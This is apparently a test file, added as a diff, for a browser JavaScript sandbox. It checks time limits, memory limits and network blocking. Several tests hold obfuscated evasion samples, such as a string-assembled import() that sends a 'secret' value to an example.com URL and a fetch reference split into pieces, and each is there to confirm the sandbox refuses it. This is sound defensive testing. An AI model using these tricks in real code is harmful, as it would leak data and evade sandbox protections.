@@ -0,0 +1,50 @@
+/**
+ * ./tests/js-sandbox.test.js
+ * run_js sandbox: code runs and is stopped at its time and memory limits, and the browser itself
+ * keeps it off the network, including imports built from strings that no source check would spot
+ */
+(function() {
+    'use strict';
+
+    const { test, assert, assertEqual } = TestRunner;
+
+    test('JsSandbox: runs code with input and returns the result and console output', async () => {
+        const outcome = await JsSandbox.run('console.log("rows", input.split(",").length); return input.split(",").map(Number).reduce((a, b) => a + b, 0);', { input: '1,2,39' });
+        assertEqual(outcome.error, null, 'error');
+        assertEqual(outcome.result, '42', 'result');
+        assertEqual(outcome.logs, [{ level: 'log', text: 'rows 3' }], 'console output');
+    });
+
+    test('JsSandbox: a busy loop is stopped at the time limit', async () => {
+        const outcome = await JsSandbox.run('while (true) {}', { timeoutMs: 300 });
+        assert(outcome.timedOut, 'timed out');
+        assert(!document.querySelector('iframe[sandbox]'), 'the sandbox frame is removed');
+    });
+
+    test('JsSandbox: an allocation that keeps growing is stopped at the memory limit', async () => {
+        const growing = await JsSandbox.run('const rows = []; while (true) rows.push(new Array(1000).fill(0));', { memoryLimitMb: 16, timeoutMs: 10000 });
+        assertEqual(growing.error, 'Memory limit of 16 MB exceeded; the code was stopped', 'error');
+        assert(!growing.timedOut, 'stopped by the memory limit, not the time limit');
+        assert(!document.querySelector('iframe[sandbox]'), 'the sandbox frame is removed');
+        // Catching the error does not keep the code going
+        const caught = await JsSandbox.run('const parts = []; for (;;) { try { parts.push("x".repeat(1000)); } catch (err) {} }', { memoryLimitMb: 16, timeoutMs: 10000 });
+        assertEqual(caught.error, 'Memory limit of 16 MB exceeded; the code was stopped', 'error when the code catches it');
+        // Known sizes are refused before anything is allocated
+        const huge = await JsSandbox.run('Array.from({ length: 1e9 }, () => 0).length', { memoryLimitMb: 16 });
+        assertEqual(huge.error, 'Memory limit of 16 MB exceeded; the code was stopped', 'error for one huge array');
+    });
+
+    test('JsSandbox: an import() assembled at run time is refused', async () => {
+        // A data: module needs no server or CORS, so only the sandbox's policy can stop it loading
+        const built = await JsSandbox.run('Function("url", "return imp" + "ort(url)")(input).then(m => m.default)', { input: 'data:text/javascript,export default "loaded"' });
+        assertEqual(built.result, undefined, 'result of a data: module import');
+        assert(/import|module|Content Security Policy/i.test(built.error), `the data: module import fails (got ${built.error})`);
+        const exfiltrate = await JsSandbox.run('Function("data", \'return imp\' + \'ort("https://example.com/?d=" + data)\')(input)', { input: 'secret' });
+        assert(/import|module|Content Security Policy/i.test(exfiltrate.error), `the https import fails (got ${exfiltrate.error})`);
+    });
+
+    test('JsSandbox: network APIs reached through the global object are gone', async () => {
+        const outcome = await JsSandbox.run('const g = Function("return this")(); return [typeof g["fe" + "tch"], typeof g.XMLHttpRequest, typeof g.WebSocket, typeof g.importScripts].join(" ")');
+        assertEqual(outcome.result, 'undefined undefined undefined undefined', 'types');
+    });
+})();